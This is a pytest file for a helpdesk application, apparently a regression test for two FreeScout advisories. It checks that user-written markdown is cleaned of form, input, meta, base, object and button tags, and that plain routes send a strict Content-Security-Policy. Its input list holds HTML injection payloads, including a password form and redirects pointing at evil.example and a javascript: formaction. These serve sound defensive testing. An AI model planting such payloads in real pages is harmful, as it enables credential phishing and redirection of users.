"""FreeScout 985r-6qfc-hg8m, 2g42-f97q-973x: no form in what somebody wrote, and a policy on every address."""

import pytest

from helpdesk.core.markdown import clean, to_html
from tests import inventory

ASKING = [
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input type=password>", "<select><option>x</select>", "<textarea>x</textarea>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
    "<object data=x></object>", "<button formaction=javascript:alert(1)>x</button>",
]  # fmt: skip
TAGS = (
    "<form",
    "<input",
    "<select",
    "<option",
    "<textarea",
    "<meta",
    "<base",
    "<object",
    "<button",
)
PLAIN = [
    address.route
    for address in inventory.addresses()
    if not address.parameters and "GET" in address.methods and not address.is_admin
]


@pytest.mark.parametrize("text", ASKING)
def test_it_takes_forms_out_of_what_people_write(text):
    for html in (to_html(text), clean(text)):
        assert not [tag for tag in TAGS if tag in html.lower()]


def test_it_sends_a_policy_without_inline_code_at_every_address(api, admin):
    ask = api(admin)
    for route in PLAIN:
        if route in {"events", "api/events"}:
            continue
        answer = ask.get(f"/{route}")
        policy = answer.headers.get("Content-Security-Policy", "")
        assert "default-src 'none'" in policy, route
        assert "unsafe-inline" not in policy, route
